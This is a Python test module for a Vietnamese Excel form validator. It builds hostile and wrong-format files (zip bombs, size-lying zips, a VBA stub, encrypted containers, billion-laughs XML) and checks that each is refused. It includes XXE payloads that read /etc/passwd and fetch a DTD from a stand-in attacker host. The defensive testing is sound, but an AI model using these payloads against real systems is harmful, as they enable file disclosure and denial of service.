"""The file itself: every hostile or wrong-format file is refused safely, saying what to send instead.

Each file is built here the way it reaches a collector: a CSV or a web system's HTML export renamed
.xlsx, a real .xls and .ods saved by LibreOffice, an .xlsm/.xlsb, a password-encrypted workbook, a
truncated download, a zip bomb, an XML bomb, an external link, a workbook that is not our template.
For each one validation must give the right status and finding code, a Vietnamese message (with an
English rendering) saying what to do, no traceback, bounded time and memory, an untouched input
file, and must never stop the other files of the same run.
"""
from __future__ import annotations

import datetime as dt
import hashlib
import io
import json
import random
import resource
import shutil
import struct
import tracemalloc
import unicodedata
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from qcdc_excel import parse_period
from qcdc_excel.cli import main
from qcdc_excel.feedback import write_feedback_files
from qcdc_excel.findings import CODES, UNREADABLE_CODES, Finding
from qcdc_excel.form import FEEDBACK_SHEET, META_SHEET
from qcdc_excel.identity import Identity
from qcdc_excel.layout import form_layout
from qcdc_excel.reader import MAX_FILE_BYTES, MAX_PART_BYTES
from qcdc_excel.synthetic import fill_workbook, valid_values
from qcdc_excel.template import write_template
from qcdc_excel.validate import read_submission, validate

from .conftest import convert_with_soffice, soffice_binary

MB = 1024 * 1024
CLEAN_UNIT = Identity("23641", "Xã Kon Pne", "625", "Huyện Kbang")
HOSTILE_UNIT = Identity("23644", "Xã Sơn Lang", "625", "Huyện Kbang")
PERIOD = "2020"
FORM_PART = "xl/worksheets/sheet1.xml"  # the form sheet ("Phụ lục") in a template
META_PART = "xl/worksheets/sheet2.xml"  # the very hidden metadata sheet
VI_LETTERS = set("àáảãạăằắẳẵặâầấẩẫậđèéẻẽẹêềếểễệìíỉĩịòóỏõọôồốổỗộơờớởỡợùúủũụưừứửữựỳýỷỹỵ")

# code -> (what the Vietnamese message must say, what the English one must say)
HINTS = {
    "file-csv": (".xlsx", ".xlsx"),
    "file-html": (".xlsx", ".xlsx"),
    "file-empty": ("gửi lại", "Send"),
    "file-xls": (".xlsx", ".xlsx"),
    "file-ods": (".xlsx", ".xlsx"),
    "file-xlsm": (".xlsx", ".xlsx"),
    "file-xlsb": (".xlsx", ".xlsx"),
    "file-not-xlsx": (".xlsx", ".xlsx"),
    "file-encrypted": ("bỏ mật khẩu", "Remove the open password"),
    "file-corrupt": ("gửi lại", "resend"),
    "file-zip-bomb": ("biểu mẫu", "template"),
    "file-xml-bomb": ("biểu mẫu gốc", "template"),
    "file-too-large": ("biểu mẫu", "template"),
    "not-from-template": ("biểu mẫu", "template"),
    "catalog-version-unknown": ("biểu mẫu mới nhất", "latest template"),
    "external-links": ("Paste Values", "Paste values"),
}


# --- helpers ---------------------------------------------------------------------------------------
def sha256_file(path: Path) -> str:
    h = hashlib.sha256()
    with open(path, "rb") as fh:
        for chunk in iter(lambda: fh.read(MB), b""):
            h.update(chunk)
    return h.hexdigest()


def assert_messages(f: Finding) -> None:
    """The finding says, in Vietnamese with diacritics and in English, what to do instead."""
    vi, en = f.message("vi"), f.message("en")
    hint_vi, hint_en = HINTS[f.code]
    assert vi.strip() and en.strip() and vi != en, f.code
    assert any(ch in VI_LETTERS for ch in vi.lower()), vi
    assert "Hãy" in vi, vi  # an instruction, not only a diagnosis
    assert hint_vi in vi, vi
    assert hint_en in en, en
    assert not any(ch in VI_LETTERS for ch in en.lower()), en
    for text in (vi, en):
        assert "{" not in text and "}" not in text, text  # every placeholder was filled
        assert "Traceback" not in text and "Error" not in text, text


def rezip(src: bytes, out: Path, replace: dict[str, bytes | None] | None = None,
          add: dict[str, bytes] | None = None) -> Path:
    """A copy of the zip ``src`` with some members replaced (None drops one) and others added."""
    replace, add = replace or {}, add or {}
    with zipfile.ZipFile(io.BytesIO(src)) as zin, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = replace[info.filename] if info.filename in replace else zin.read(info.filename)
            if data is not None:
                zout.writestr(info.filename, data)
        for name, data in add.items():
            zout.writestr(name, data)
    return out


def member(src: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(src)) as zf:
        return zf.read(name)


def ole_compound(streams: dict[str, bytes]) -> bytes:
    """A minimal valid OLE2 compound file (version 3, 512-byte sectors) holding root streams.

    Streams are padded to 4096 bytes so they live in regular sectors (no mini stream needed).
    """
    sector, end, free, fatsect, nostream = 512, 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    items = [(name, data.ljust(4096, b"\0")) for name, data in streams.items()]
    n_entries = 1 + len(items)
    dir_sectors = -(-n_entries // 4)
    fat = [fatsect]
    first_dir = len(fat)
    fat += [first_dir + i + 1 for i in range(dir_sectors - 1)] + [end]
    starts = []
    for _name, data in items:
        n, start = len(data) // sector, len(fat)
        starts.append(start)
        fat += [start + i + 1 for i in range(n - 1)] + [end]
    assert len(fat) <= sector // 4, "one FAT sector only"
    fat += [free] * (sector // 4 - len(fat))

    def entry(name: str, kind: int, start: int, size: int, child=nostream, right=nostream) -> bytes:
        raw = name.encode("utf-16-le") + b"\0\0" if name else b""
        return (raw.ljust(64, b"\0") + struct.pack("<HBB3I", len(raw), kind, 1 if name else 0,
                                                   nostream, right, child)
                + bytes(16 + 4 + 16) + struct.pack("<IQ", start, size))

    # Siblings as a right-leaning chain in the compound-file order (length, then upper-case name).
    order = sorted(range(len(items)), key=lambda i: (len(items[i][0]), items[i][0].upper()))
    entries = [entry("Root Entry", 5, end, 0, child=order[0] + 1)] + [b""] * len(items)
    for pos, i in enumerate(order):
        right = order[pos + 1] + 1 if pos + 1 < len(order) else nostream
        entries[i + 1] = entry(items[i][0], 2, starts[i], len(items[i][1]), right=right)
    entries += [entry("", 0, 0, 0)] * (dir_sectors * 4 - n_entries)
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
              + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
              + struct.pack("<9I", 0, 1, first_dir, 0, 4096, end, 0, end, 0)
              + struct.pack("<I", 0) + struct.pack("<I", free) * 108)
    assert len(header) == sector
    return (header + struct.pack(f"<{sector // 4}I", *fat) + b"".join(entries)
            + b"".join(data for _name, data in items))


def encode_cp1258(text: str) -> bytes:
    """Vietnamese as Excel's 'CSV (Comma delimited)' writes it on Vietnamese Windows (cp1258)."""
    out = b""
    for ch in text:
        try:
            out += ch.encode("cp1258")
        except UnicodeEncodeError:  # a precomposed letter + tone: base letter, then combining tone
            nfd = unicodedata.normalize("NFD", ch)
            tone = "".join(c for c in nfd if c in "\u0300\u0301\u0303\u0309\u0323")
            base = unicodedata.normalize("NFC", "".join(c for c in nfd if c not in tone))
            out += (base + tone).encode("cp1258")
    return out


def write_streamed_member(zout: zipfile.ZipFile, name: str, size_mb: int) -> None:
    """A member of ``size_mb`` MB of zeros, written in 1 MB chunks (never held in memory)."""
    chunk = bytes(MB)
    with zout.open(name, "w") as w:  # the archive's own method: deflate
        for _ in range(size_mb):
            w.write(chunk)


def zip_with_big_member(src: bytes, out: Path, name: str, size_mb: int) -> Path:
    """The workbook ``src`` with member ``name`` replaced by ``size_mb`` MB of deflated zeros."""
    with zipfile.ZipFile(io.BytesIO(src)) as zin, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zout:
        for info in zin.infolist():
            if info.filename == name:
                write_streamed_member(zout, name, size_mb)
            else:
                zout.writestr(info.filename, zin.read(info.filename))
    return out


def lie_about_size(path: Path, name: str, claimed: int) -> None:
    """Patch the local header and the central directory so ``name`` claims ``claimed`` bytes.

    The CRC is set to that of ``claimed`` zero bytes, so a reader trusting the headers finds
    nothing wrong until it parses the part.
    """
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        info, start_dir = zf.getinfo(name), zf.start_dir
    crc = zlib.crc32(bytes(claimed))
    lh = info.header_offset
    assert data[lh:lh + 4] == b"PK\x03\x04"
    struct.pack_into("<I", data, lh + 14, crc)
    struct.pack_into("<I", data, lh + 22, claimed)
    pos = start_dir
    while data[pos:pos + 4] == b"PK\x01\x02":
        n, e, c = struct.unpack_from("<HHH", data, pos + 28)
        if bytes(data[pos + 46:pos + 46 + n]).decode() == name:
            struct.pack_into("<I", data, pos + 16, crc)
            struct.pack_into("<I", data, pos + 24, claimed)
            break
        pos += 46 + n + e + c
    else:  # pragma: no cover
        raise AssertionError("central directory entry not found")
    path.write_bytes(bytes(data))


def flip_byte_in_member(src: bytes, name: str) -> bytes:
    """``src`` with one bit flipped inside the deflated data of ``name``, chosen so that the
    deflate stream still decodes to the same length but different bytes: a pure CRC error."""
    with zipfile.ZipFile(io.BytesIO(src)) as zf:
        info = zf.getinfo(name)
        original = zf.read(name)
    n, e = struct.unpack_from("<HH", src, info.header_offset + 26)
    begin = info.header_offset + 30 + n + e
    compressed = src[begin:begin + info.compress_size]
    for offset in range(len(compressed) // 2, len(compressed) - 16):
        for bit in range(8):
            broken = bytearray(compressed)
            broken[offset] ^= 1 << bit
            try:
                out = zlib.decompress(bytes(broken), -15)
            except zlib.error:
                continue
            if len(out) == len(original) and out != original:
                data = bytearray(src)
                data[begin + offset] ^= 1 << bit
                return bytes(data)
    raise AssertionError("no CRC-only corruption found")  # pragma: no cover


LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%s;" % (str(i - 1).encode() if i > 1 else b"")) * 10)
                     for i in range(1, 10))
          + b"]>")
XXE_FILE = b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
XXE_PARAM = b'<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://attacker.invalid/evil.dtd"> %ext;]>'


def inject_doctype(xml: bytes, root: bytes, doctype: bytes) -> bytes:
    """Put ``doctype`` before the root element ``<root `` (after any XML declaration)."""
    i = xml.index(b"<" + root + b" ")
    return xml[:i] + doctype + xml[i:]


# --- the files -------------------------------------------------------------------------------------
@dataclass
class Case:
    name: str
    path: Path
    code: str
    status: str = "unreadable"
    also: frozenset = frozenset()  # other acceptable codes (see the case)


@pytest.fixture(scope="module")
def source(tmp_path_factory, catalog):
    """A clean filled form (unit 23641) and the bytes of another filled form (23644) to abuse."""
    base = tmp_path_factory.mktemp("source")
    layout = form_layout(catalog.version, "xa")
    out: dict[str, Path] = {}
    for label, identity, seed in (("clean", CLEAN_UNIT, 1), ("hostile", HOSTILE_UNIT, 2)):
        template = write_template(base / f"tpl-{label}.xlsx", "xa", parse_period(PERIOD), identity)
        values = valid_values(catalog, layout.input_codes, random.Random(seed))
        out[label] = fill_workbook(template, values, base / f"{identity.unit_code}_{PERIOD}.xlsx",
                                   report_date=dt.datetime(2020, 10, 30),
                                   names=("Nguyễn Văn A", "Nguyễn Văn Dũng"))
    return out


def build_corpus(d: Path, good: bytes, src: dict) -> dict[str, Case]:
    cases: dict[str, Case] = {}

    def add(name: str, path: Path, code: str, **kw) -> None:
        cases[name] = Case(name, path, code, **kw)

    # Text renamed .xlsx -------------------------------------------------------------------------
    rows = [["STT", "Mã chỉ tiêu", "Nội dung", "Số liệu"], ["1", "I.1", "Số cuộc họp thôn, tổ dân phố", "12"],
            ["2", "I.2", "Số ý kiến đóng góp của Nhân dân", "40"]]
    p = d / "csv-utf8.xlsx"
    p.write_bytes("\ufeff".encode() + "\r\n".join(",".join(r) for r in rows).encode("utf-8"))
    add("csv-utf8", p, "file-csv")
    p = d / "csv-cp1258.xlsx"
    p.write_bytes(encode_cp1258("\r\n".join(",".join(r) for r in rows)))
    add("csv-cp1258", p, "file-csv")

    html_table = ("<table border='1'><tr><th>Mã chỉ tiêu</th><th>Số liệu</th></tr>"
                  "<tr><td>I.1</td><td>12</td></tr></table>")
    p = d / "html-table.xlsx"  # a PHP export: a bare table with a .xlsx name
    p.write_bytes(html_table.encode("utf-8"))
    add("html-table", p, "file-html")
    p = d / "html-excel-export.xlsx"  # "Excel" export of a web portal: Office HTML with a BOM
    p.write_bytes(("\ufeff\r\n<html xmlns:o=\"urn:schemas-microsoft-com:office:office\" "
                   "xmlns:x=\"urn:schemas-microsoft-com:office:excel\" xmlns=\"http://www.w3.org/TR/REC-html40\">"
                   "<head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">"
                   "<!--[if gte mso 9]><xml><x:ExcelWorkbook><x:ExcelWorksheets><x:ExcelWorksheet>"
                   "<x:Name>Báo cáo</x:Name></x:ExcelWorksheet></x:ExcelWorksheets></x:ExcelWorkbook></xml>"
                   "<![endif]--></head><body>" + html_table + "</body></html>").encode("utf-8"))
    add("html-excel-export", p, "file-html")
    p = d / "spreadsheetml-2003.xlsx"  # "XML Spreadsheet 2003", another web-export favourite
    p.write_bytes(('<?xml version="1.0" encoding="utf-8"?>\r\n<?mso-application progid="Excel.Sheet"?>\r\n'
                   '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
                   'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="Báo cáo">'
                   '<Table><Row><Cell><Data ss:Type="String">I.1</Data></Cell>'
                   '<Cell><Data ss:Type="Number">12</Data></Cell></Row></Table></Worksheet></Workbook>')
                  .encode("utf-8"))
    add("spreadsheetml-2003", p, "file-not-xlsx")
    p = d / "empty.xlsx"
    p.write_bytes(b"")
    add("empty", p, "file-empty")

    # Zips of another kind -----------------------------------------------------------------------
    ct = member(good, "[Content_Types].xml")
    rels = member(good, "xl/_rels/workbook.xml.rels")
    vba = ole_compound({"PROJECT": b'ID="{5A3F8C21-0000-0000-0000-000000000000}"\r\nDocument=ThisWorkbook/&H00000000\r\n'
                                   b'Name="VBAProject"\r\n', "PROJECTwm": b"ThisWorkbook\0T\0h\0i\0s\0\0\0\0\0"})
    xlsm_ct = ct.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                         b"application/vnd.ms-excel.sheet.macroEnabled.main+xml").replace(
        b"<Default Extension=\"xml\"",
        b"<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\" /><Default Extension=\"xml\"")
    assert b"macroEnabled" in xlsm_ct and b"vbaProject" in xlsm_ct
    vba_rel = rels.replace(b"</Relationships>", b'<Relationship Id="rId90" Type="http://schemas.microsoft.com/'
                           b'office/2006/relationships/vbaProject" Target="vbaProject.bin" /></Relationships>')
    add("xlsm", rezip(good, d / "xlsm-renamed.xlsx", {"[Content_Types].xml": xlsm_ct,
                                                      "xl/_rels/workbook.xml.rels": vba_rel},
                      {"xl/vbaProject.bin": vba}), "file-xlsm")
    add("xlsm-vba-only", rezip(good, d / "xlsm-vba-only.xlsx", {"xl/_rels/workbook.xml.rels": vba_rel},
                               {"xl/vbaProject.bin": vba}), "file-xlsm")
    xlsb = {
        "[Content_Types].xml": b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.'
                               b'openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="'
                               b'application/vnd.ms-excel.sheet.binary.macroEnabled.main"/><Default Extension="rels" '
                               b'ContentType="application/vnd.openxmlformats-package.relationships+xml"/></Types>',
        "_rels/.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                       b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                       b'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.bin"/></Relationships>',
        "xl/workbook.bin": bytes.fromhex("8301009b01000000000099011800") + bytes(64),
        "xl/worksheets/sheet1.bin": bytes.fromhex("8101009301170000") + bytes(64),
        "xl/styles.bin": bytes.fromhex("96020000") + bytes(32),
    }
    p = d / "xlsb-renamed.xlsx"
    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in xlsb.items():
            z.writestr(name, data)
    add("xlsb", p, "file-xlsb")
    p = d / "word-document.xlsx"
    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                   b'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
                   b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
                   b'officedocument.wordprocessingml.document.main+xml"/></Types>')
        z.writestr("_rels/.rels", b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                   b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                   b'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')
        z.writestr("word/document.xml", '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.'
                   'org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Báo cáo kết quả thực hiện dân chủ ở cơ sở'
                   '</w:t></w:r></w:p></w:body></w:document>'.encode())
    add("docx", p, "file-not-xlsx")
    p = d / "zipped-form.xlsx"  # the form zipped by a mail client, then renamed
    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("23644_2020.xlsx", good)
    add("zipped-form", p, "file-not-xlsx")

    # Password-encrypted: OLE container with EncryptionInfo / EncryptedPackage streams ------------
    info = (b"\x04\x00\x04\x00\x40\x00\x00\x00" + b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
            b'<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"><keyData saltSize="16" '
            b'blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" '
            b'hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></encryption>')
    package = struct.pack("<Q", len(good)) + random.Random(7).randbytes(len(good) // 16 * 16 + 16)
    p = d / "encrypted-minimal.xlsx"
    p.write_bytes(ole_compound({"EncryptionInfo": info, "EncryptedPackage": package}))
    add("encrypted-ole", p, "file-encrypted")

    # Damaged -------------------------------------------------------------------------------------
    p = d / "truncated-half.xlsx"
    p.write_bytes(good[: len(good) // 2])
    add("truncated-half", p, "file-corrupt")
    p = d / "truncated-tail.xlsx"  # the last kilobyte never arrived (central directory gone)
    p.write_bytes(good[:-1000])
    add("truncated-tail", p, "file-corrupt")
    p = d / "crc-error.xlsx"
    p.write_bytes(flip_byte_in_member(good, FORM_PART))
    add("crc-error", p, "file-corrupt")

    # Bombs ---------------------------------------------------------------------------------------
    add("zip-bomb-300mb", zip_with_big_member(good, d / "zip-bomb-300mb.xlsx", FORM_PART, 300), "file-zip-bomb")
    add("zip-bomb-part", zip_with_big_member(good, d / "zip-bomb-part.xlsx", FORM_PART,
                                             MAX_PART_BYTES // MB + 24), "file-zip-bomb")
    p = zip_with_big_member(good, d / "zip-lying-sizes.xlsx", FORM_PART, 100)
    lie_about_size(p, FORM_PART, len(member(good, FORM_PART)))
    # zipfile stops at the declared size, so the truth shows up as damage (CRC or XML), not a bomb.
    add("zip-lying-sizes", p, "file-corrupt", also=frozenset({"file-zip-bomb"}))
    add("zip-many-entries", rezip(good, d / "zip-many-entries.xlsx",
                                  add={f"customXml/item{i}.xml": b"<a/>" for i in range(2500)}), "file-zip-bomb")

    wb_xml = member(good, "xl/workbook.xml")
    meta_xml = member(good, META_PART)
    form_xml = member(good, FORM_PART)
    assert b"<t>format</t>" in meta_xml
    add("xml-bomb-workbook", rezip(good, d / "xml-bomb-workbook.xlsx", {"xl/workbook.xml": inject_doctype(
        wb_xml, b"workbook", LAUGHS).replace(b"<workbookPr />", b"<workbookPr />&lol9;", 1)}), "file-xml-bomb")
    add("xml-bomb-metadata", rezip(good, d / "xml-bomb-metadata.xlsx", {META_PART: inject_doctype(
        meta_xml, b"worksheet", LAUGHS).replace(b"<t>format</t>", b"<t>&lol9;</t>", 1)}), "file-xml-bomb")
    add("xml-bomb-form", rezip(good, d / "xml-bomb-form.xlsx", {FORM_PART: inject_doctype(
        form_xml, b"worksheet", LAUGHS).replace(b"<sheetData>", b"<sheetData>&lol9;", 1)}), "file-xml-bomb")
    add("xxe-metadata", rezip(good, d / "xxe-metadata.xlsx", {META_PART: inject_doctype(
        meta_xml, b"worksheet", XXE_FILE).replace(b"<t>format</t>", b"<t>&xxe;</t>", 1)}), "file-xml-bomb")
    add("xxe-rels", rezip(good, d / "xxe-rels.xlsx", {"xl/_rels/workbook.xml.rels": inject_doctype(
        rels, b"Relationships", XXE_PARAM)}), "file-xml-bomb")

    # Absurdly large: a sparse 25 MB file behind a zip signature ---------------------------------
    p = d / "too-large.xlsx"
    with open(p, "wb") as fh:
        fh.write(b"PK\x03\x04")
        fh.truncate(MAX_FILE_BYTES + 5 * MB)
    add("too-large", p, "file-too-large")

    # Readable workbooks that are not (or no longer) our form ----------------------------------
    ext_rel = rels.replace(b"</Relationships>", b'<Relationship Id="rId91" Type="http://schemas.openxmlformats.org/'
                           b'officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml" />'
                           b"</Relationships>")
    ext_ct = ct.replace(b"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
                        b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml" /></Types>')
    ext_wb = wb_xml.replace(b"</sheets>", b'</sheets><externalReferences><externalReference xmlns:r="http://schemas.openxmlformats.org/'
                            b'officeDocument/2006/relationships" r:id="rId91" />'
                            b"</externalReferences>", 1)
    assert ext_wb != wb_xml
    add("external-links", rezip(good, d / "external-links.xlsx", {
        "[Content_Types].xml": ext_ct, "xl/_rels/workbook.xml.rels": ext_rel, "xl/workbook.xml": ext_wb}, {
        "xl/externalLinks/externalLink1.xml":
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="http://schemas.openxmlformats.'
            b'org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            b'<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames><sheetDataSet>'
            b'<sheetData sheetId="0"><row r="1"><cell r="A1"><v>12</v></cell></row></sheetData></sheetDataSet>'
            b"</externalBook></externalLink>",
        "xl/externalLinks/_rels/externalLink1.xml.rels":
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            b'openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
            b'Target="file:///C:/Users/ketoan/Desktop/so-lieu-2020.xlsx" TargetMode="External"/></Relationships>',
    }), "external-links", status="rejected")

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Báo cáo"
    for row in rows:
        ws.append([int(x) if x.isdigit() else x for x in row])
    p = d / "own-workbook.xlsx"
    wb.save(p)
    add("own-workbook", p, "not-from-template")

    wb = openpyxl.load_workbook(src["hostile"])
    meta = wb[META_SHEET]
    row = next(r for r in meta.iter_rows(max_col=2) if r[0].value == "catalog_version")
    row[1].value = "qcdc-1999.1"
    p = d / "catalog-1999.xlsx"
    wb.save(p)
    add("catalog-1999", p, "catalog-version-unknown")
    return cases


@pytest.fixture(scope="module")
def corpus(tmp_path_factory, source) -> dict[str, Case]:
    d = tmp_path_factory.mktemp("hostile")
    return build_corpus(d, source["hostile"].read_bytes(), source)


@pytest.fixture(scope="module")
def lo_cases(tmp_path_factory, source, request) -> dict[str, Case]:
    """A real .xls and .ods saved by LibreOffice from a filled form (one module-wide fixture)."""
    request.getfixturevalue("soffice")  # skip (or fail under CI) without LibreOffice
    binary = soffice_binary()
    base = tmp_path_factory.mktemp("lo")
    src = base / "bao-cao.xlsx"
    shutil.copy(source["hostile"], src)
    # --convert-to takes one format per start, so one start per format.
    xls = convert_with_soffice(binary, [src], base / "xls", "xls", timeout=180)[src]
    ods = convert_with_soffice(binary, [src], base / "ods", "ods", timeout=180)[src]
    d = base / "files"
    d.mkdir()
    cases = {
        "xls": Case("xls", Path(shutil.copy(xls, d / "bao-cao-excel97.xls")), "file-xls"),
        "xls-renamed": Case("xls-renamed", Path(shutil.copy(xls, d / "bao-cao-excel97-renamed.xlsx")), "file-xls"),
        "ods-renamed": Case("ods-renamed", Path(shutil.copy(ods, d / "bao-cao-libreoffice.xlsx")), "file-ods"),
    }
    assert cases["xls"].path.read_bytes()[:8] == b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    with zipfile.ZipFile(cases["ods-renamed"].path) as z:
        assert z.read("mimetype") == b"application/vnd.oasis.opendocument.spreadsheet"
    return cases


def all_cases(corpus: dict[str, Case], request) -> dict[str, Case]:
    """The corpus plus the LibreOffice files when LibreOffice is there (required under CI)."""
    try:
        return {**corpus, **request.getfixturevalue("lo_cases")}
    except pytest.skip.Exception:
        return dict(corpus)


def check_one(case: Case, sub) -> None:
    codes = [f.code for f in sub.findings]
    assert "file-unreadable" not in codes, (case.name, [f.message("en") for f in sub.findings])
    assert sub.status == case.status, (case.name, sub.status, codes)
    wanted = {case.code} | set(case.also)
    hits = [f for f in sub.findings if f.code in wanted]
    assert hits, (case.name, codes)
    if case.status == "unreadable":
        assert len(codes) == 1, (case.name, codes)  # one clear reason, nothing half-read
        assert codes[0] in UNREADABLE_CODES
    for f in hits:
        assert f.severity == "error"
        assert_messages(f)


CORPUS_NAMES = [
    "csv-utf8", "csv-cp1258", "html-table", "html-excel-export", "spreadsheetml-2003", "empty", "xlsm",
    "xlsm-vba-only", "xlsb", "docx", "zipped-form", "encrypted-ole", "truncated-half", "truncated-tail",
    "crc-error", "zip-bomb-300mb", "zip-bomb-part", "zip-lying-sizes", "zip-many-entries", "xml-bomb-workbook",
    "xml-bomb-metadata", "xml-bomb-form", "xxe-metadata", "xxe-rels", "too-large", "external-links",
    "own-workbook", "catalog-1999",
]


def test_corpus_names_cover_every_case(corpus):
    assert sorted(corpus) == sorted(CORPUS_NAMES)


# --- one file at a time --------------------------------------------------------------------------
@pytest.mark.parametrize("name", CORPUS_NAMES)
def test_hostile_file_is_refused_with_what_to_send(corpus, name):
    case = corpus[name]
    before = sha256_file(case.path)
    report = validate([case.path])
    (sub,) = report.submissions
    check_one(case, sub)
    assert not report.ok
    assert sha256_file(case.path) == before  # the input file is never touched
    if case.code != "file-too-large":
        assert sub.sha256 == before


@pytest.mark.soffice
@pytest.mark.parametrize("name", ["xls", "xls-renamed", "ods-renamed"])
def test_libreoffice_xls_and_ods_are_refused(lo_cases, name):
    case = lo_cases[name]
    before = sha256_file(case.path)
    (sub,) = validate([case.path]).submissions
    check_one(case, sub)
    assert sha256_file(case.path) == before
    assert sub.sha256 == before


# Exports that are text or HTML but are not recognised as such: still refused (unreadable, with the
# .xlsx advice), but the message names the wrong thing ("looks like: ?" / "looks like: XML").
MISNAMED_EXPORTS = {
    # Excel "Save As > Unicode Text (*.txt)", and many web "CSV for Excel" exports: UTF-16LE + BOM, tabs.
    "utf16-unicode-text": ("file-csv", "\ufeffSTT\tMã chỉ tiêu\tSố liệu\r\n1\tI.1\t12\r\n".encode("utf-16-le")),
    # ASP.NET "export GridView to Excel" (RenderControl): the table wrapped in a <div>.
    "aspnet-gridview": ("file-html", '<div>\r\n\t<table cellspacing="0" rules="all" border="1" id="GridView1">'
                                     '\r\n\t\t<tr><th scope="col">Mã chỉ tiêu</th><th scope="col">Số liệu</th></tr>'
                                     '<tr><td>I.1</td><td>12</td></tr>\r\n\t</table>\r\n</div>'.encode("utf-8")),
    # PHP exports that style cells as text before the table.
    "php-styled-table": ("file-html", "<style>td { mso-number-format:'\\@'; }</style>\r\n<table border='1'>"
                                      "<tr><td>I.1</td><td>12</td></tr></table>".encode("utf-8")),
}


@pytest.mark.parametrize("name", list(MISNAMED_EXPORTS))
def test_text_and_html_exports_are_named_as_such(tmp_path, name):
    code, data = MISNAMED_EXPORTS[name]
    path = tmp_path / f"{name}.xlsx"
    path.write_bytes(data)
    (sub,) = validate([path]).submissions
    assert sub.status == "unreadable"  # holds today: refused either way
    check_one(Case(name, path, code), sub)


def test_message_names_what_the_file_is(corpus):
    """Where the file is recognisably something else, the message says what."""
    word = read_submission(corpus["docx"].path).findings[0]
    assert "Word" in word.message("vi") and "Word" in word.message("en")
    xml = read_submission(corpus["spreadsheetml-2003"].path).findings[0]
    assert "XML" in xml.message("vi")
    big = read_submission(corpus["too-large"].path)
    assert big.size == MAX_FILE_BYTES + 5 * MB
    assert "25" in big.findings[0].message("vi") and "20" in big.findings[0].message("vi")
    old = read_submission(corpus["catalog-1999"].path).findings[0]
    assert "qcdc-1999.1" in old.message("vi") and "qcdc-1999.1" in old.message("en")


def test_external_links_are_the_only_problem_of_a_linked_form(corpus):
    sub = read_submission(corpus["external-links"].path)
    assert [f.code for f in sub.findings] == ["external-links"]
    assert sub.unit_code == HOSTILE_UNIT.unit_code and sub.period == PERIOD


def test_crc_corruption_is_a_pure_crc_error(corpus, source):
    """The flipped byte leaves a well-formed zip whose form part fails its CRC check."""
    with zipfile.ZipFile(corpus["crc-error"].path) as z:
        assert z.testzip() == FORM_PART
    assert read_submission(corpus["crc-error"].path).findings[0].code == "file-corrupt"


def test_real_password_encrypted_workbook(tmp_path, source):
    """A form encrypted with a password to open (ECMA-376 agile, as Excel writes it)."""
    msoffcrypto = pytest.importorskip("msoffcrypto")
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(source["hostile"].read_bytes())).encrypt("Matkhau@2020", out)
    path = tmp_path / "23644_2020-co-mat-khau.xlsx"
    path.write_bytes(out.getvalue())
    before = sha256_file(path)
    (sub,) = validate([path]).submissions
    check_one(Case("msoffcrypto", path, "file-encrypted"), sub)
    assert sha256_file(path) == before
    # It really is the form: with the password removed it is accepted.
    plain = io.BytesIO()
